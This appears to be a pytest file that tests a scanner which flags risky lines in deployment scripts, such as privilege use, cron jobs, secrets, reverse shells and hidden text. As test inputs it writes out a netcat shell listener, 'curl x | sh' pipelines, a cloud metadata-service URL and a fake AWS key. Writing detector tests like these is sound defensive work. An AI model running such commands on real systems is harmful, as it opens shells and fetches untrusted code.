"""Flags point at a line of a script that a person has to see; where they stand, and what they do not show."""

from __future__ import annotations

import pytest

from clockwork_nb.forge.bundle import Bundle, BundleStep
from clockwork_nb.forge.content_flags import Flag, content_flags, flag_risks
from clockwork_nb.ports import Artifact
from clockwork_nb.render.bundle import bundle_html, bundle_summary, bundle_text, notable_text

KEY = "AKIA" + "ABCDEFGHIJKLMNOP"  # put together here, so that no scanner takes this file for a leak


def bundle(script: str, *, lang: str = "sh", address: str = "file.a", data: bytes = b"", **step: object) -> Bundle:
    artifacts = [Artifact("scripts/a/x", script.encode(), "0755", "p", lang)]
    if data:
        artifacts.append(Artifact("scripts/a/data", data, "0644", "p", "data"))
    runtime = {"python": "python3", "json": "cw:service"}.get(lang, lang)
    cmd = (runtime, *(["ensure"] if lang == "json" else []), "scripts/a/x")
    given = {"data": {"CW_D": "scripts/a/data"} if data else {}, "cmd": cmd, **step}
    return Bundle(tuple(artifacts), (BundleStep(f"{address}:do", "do", address, **given),))  # type: ignore[arg-type]


def codes(found: list[Flag]) -> list[tuple[str, int]]:
    return [(f.code, f.line) for f in found]


def test_flags_come_by_line_with_the_line_itself() -> None:
    found = content_flags(bundle("#!/bin/sh\nsudo id\n\ncrontab -l\n"))
    assert codes(found) == [("privilege", 2), ("scheduled-job", 4)]
    assert found[1] == Flag("file.a:do", "scheduled-job", "scripts/a/x", 4, "crontab -l")
    assert flag_risks(found) == {"file.a:do": ("privilege", "scheduled-job")}
    assert flag_risks([]) == {}


def test_a_secret_is_pointed_at_and_not_shown() -> None:
    found = content_flags(bundle(f"#!/bin/sh\nID={KEY}\n", vars={"CW_ID": KEY}))
    assert codes(found) == [("secret-literal", 2), ("secret-literal", 0)]
    assert KEY not in repr(found)


def test_data_is_looked_at_for_secrets_alone() -> None:
    assert content_flags(bundle("#!/bin/sh\n", data=b"sudo crontab -l | sh\n")) == []
    assert codes(content_flags(bundle("#!/bin/sh\n", data=f"x\n{KEY}\n".encode()))) == [("secret-literal", 2)]


def test_the_words_and_variables_of_a_step_are_looked_at() -> None:
    found = content_flags(bundle("#!/bin/sh\n", cmd=("sh", "scripts/a/x", "http://169.254.169.254/")))
    assert [(f.code, f.path, f.line) for f in found] == [("metadata-service", "", 0)]
    assert codes(content_flags(bundle("#!/bin/sh\n", vars={"CW_RUN": "curl x | sh"}))) == [("decoded-code", 0)]


def test_the_command_of_a_service_is_looked_at() -> None:
    spec = '{"command": ["sh", "-c", "nc -lk 4444 -e /bin/sh -v"]}'
    assert codes(content_flags(bundle(spec, lang="json"))) == [("reverse-shell", 1)]


def test_what_a_type_is_there_for_is_no_surprise_in_its_scripts() -> None:
    script = "#!/bin/sh\ncrontab -l\nsudo id\n"
    assert codes(content_flags(bundle(script, address="schedule.nightly"))) == [("privilege", 3)]


def test_comments_run_nothing_but_may_hide_something() -> None:
    assert content_flags(bundle("#!/bin/sh\n# sudo crontab -l | sh\n")) == []
    assert codes(content_flags(bundle("#!/bin/sh\n# \u202e x\n"))) == [("hidden-text", 2)]
    assert codes(content_flags(bundle(f"#!/bin/sh\n# {KEY}\n"))) == [("secret-literal", 2)]
    assert codes(content_flags(bundle("// sudo x\n# sudo x\n", lang="sh"))) == []


def test_a_script_that_two_steps_run_is_flagged_for_both() -> None:
    one = bundle("#!/bin/sh\nsudo id\n")
    two = Bundle(one.artifacts, (*one.steps, BundleStep("file.b:do", "do", "file.b", ("sh", "scripts/a/x"))))
    assert [f.step for f in content_flags(two)] == ["file.a:do", "file.b:do"]


def test_a_script_full_of_them_is_told_in_part() -> None:
    assert len(content_flags(bundle("#!/bin/sh\n" + "sudo id\n" * 1000))) == 20


def test_what_is_too_long_to_read_is_said() -> None:
    assert content_flags(bundle("#!/bin/sh\n" + "echo x" * 600 + "\n")) == []
    assert codes(content_flags(bundle("#!/bin/sh\n" + "#" * 4097 + "\n"))) == [("unreadable", 2)]
    assert codes(content_flags(bundle("#!/bin/sh\n" + "echo x\n" * 38_000))) == [("unreadable", 37451)]


@pytest.mark.parametrize("line", ["-rrrr", "nc ", "password=", "eval(", "rm -r ", "a.", "/proc/", "${", "|sh "])
def test_no_line_takes_long(line: str) -> None:
    content_flags(bundle("#!/bin/sh\n" + (line * (4000 // len(line)) + "\n") * 20))


def test_views_show_flags_and_edits_unfolded_and_escaped() -> None:
    made = bundle("#!/bin/sh\nsudo '<b>' \x1b[31m\n")
    summary = bundle_summary(
        made.to_document(), made.digest, contents={a.path: a.content for a in made.artifacts}, edited=["scripts/a/x"],
        diffs={"scripts/a/x": "--- generated\n+++ edited\n+sudo '<b>' \x1b[31m"}, flags=[f.to_dict() for f in content_flags(made)],
    )  # fmt: skip
    text = bundle_text(summary)
    assert "1 line to look at" in text
    assert "look  line 2 asks for another user's rights" in text
    assert "+sudo '<b>' \\x1b[31m" in text
    assert notable_text(summary) in text or notable_text(summary).splitlines()[1] in text
    page = bundle_html(summary)
    assert "<details open>" in page
    assert "&lt;b&gt;" in page
    assert "<b>&#x27;" not in page
    assert "\x1b" not in page + text
    plain = bundle("#!/bin/sh\n")
    quiet = bundle_summary(plain.to_document(), plain.digest)
    assert notable_text(quiet) == ""
    assert "<details>" in bundle_html(quiet)
